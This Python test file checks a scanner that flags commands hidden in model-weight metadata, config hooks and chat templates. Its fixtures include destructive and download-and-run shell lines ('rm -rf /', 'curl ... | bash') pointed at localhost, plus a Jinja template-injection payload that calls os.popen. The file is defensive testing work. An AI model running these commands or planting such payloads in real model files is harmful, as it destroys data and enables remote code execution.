"""Commands in descriptions of weights and among settings; prose, addresses and code that a vocabulary holds are none."""

from __future__ import annotations

import json

import pytest

from aispm_nb.inspection.budget import Budget
from aispm_nb.inspection.looking import look
from aispm_nb.inspection.verdict import Verdict

from .made import gguf, safetensors, tensor

COMMANDS = (
    "import os; os.system('id')",
    "exec(base64.b64decode('cHJpbnQoMSk='))",
    "rm -rf / && wget http://127.0.0.1:9/x.sh",
    "curl -s http://127.0.0.1:9/x.sh | bash",
    "import subprocess; subprocess.call(['curl', 'x'])",
)
SCRIPTS = ("<script>fetch('x')</script>", "chmod 777 /tmp/x", "import os", "wget http://127.0.0.1:9/x.sh")
PROSE = (
    "A small transformer for text; see https://example.org/models?id=3 (MIT)",
    "Use model.eval() before you call forward(x)",
    "sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
    "trained with deepspeed --num_gpus 8 | bf16",
    "It imports nothing, and never runs os.system.",
)


def verdict(data: bytes, name: str) -> Verdict:
    return min((row.verdict for row in look(memoryview(data), name, Budget())), key=lambda each: each.rank)


def weights(text: str) -> bytes:
    return safetensors({"__metadata__": {"notes": text, "format": "pt"}, "w": tensor(0, 16)}, bytes(16))


def words(text: str) -> bytes:
    return gguf({"general.description": text, "general.architecture": "llama"})


@pytest.mark.parametrize("make", [weights, words])
def test_descriptions_of_weights(make: object) -> None:
    assert callable(make)
    for texts, expected in ((COMMANDS, Verdict.DANGEROUS), (SCRIPTS, Verdict.UNKNOWN), (PROSE, Verdict.KNOWN)):
        assert {text: verdict(make(text), "x") for text in texts} == dict.fromkeys(texts, expected)


def test_settings() -> None:
    for text in COMMANDS:
        assert verdict(json.dumps({"name": "x", "hooks": {"start": text}}).encode(), "config.json") is Verdict.DANGEROUS
        rows = [{"instruction": "list the files", "output": text}] * 3
        assert (
            verdict(json.dumps({"rows": rows, "vocab": {text: 1}, "merges": [text]}).encode(), "x.json")
            is Verdict.KNOWN
        )
    for text in PROSE:
        assert verdict(json.dumps({"name": "x", "about": text}).encode(), "config.json") is Verdict.KNOWN


@pytest.mark.parametrize("key", ["chat_template", "custom_chat_template", "system_prompt", "default"])
def test_templates_under_any_name(key: str) -> None:
    evil = "{{ self.__init__.__globals__['os'].popen('id').read() }}"
    assert verdict(json.dumps({"model_max_length": 512, key: evil}).encode(), "config.json") is Verdict.DANGEROUS
    good = "{% for m in messages %}{{ m['content'] }}{% endfor %}"
    assert verdict(json.dumps({"model_max_length": 512, key: good}).encode(), "config.json") is Verdict.KNOWN
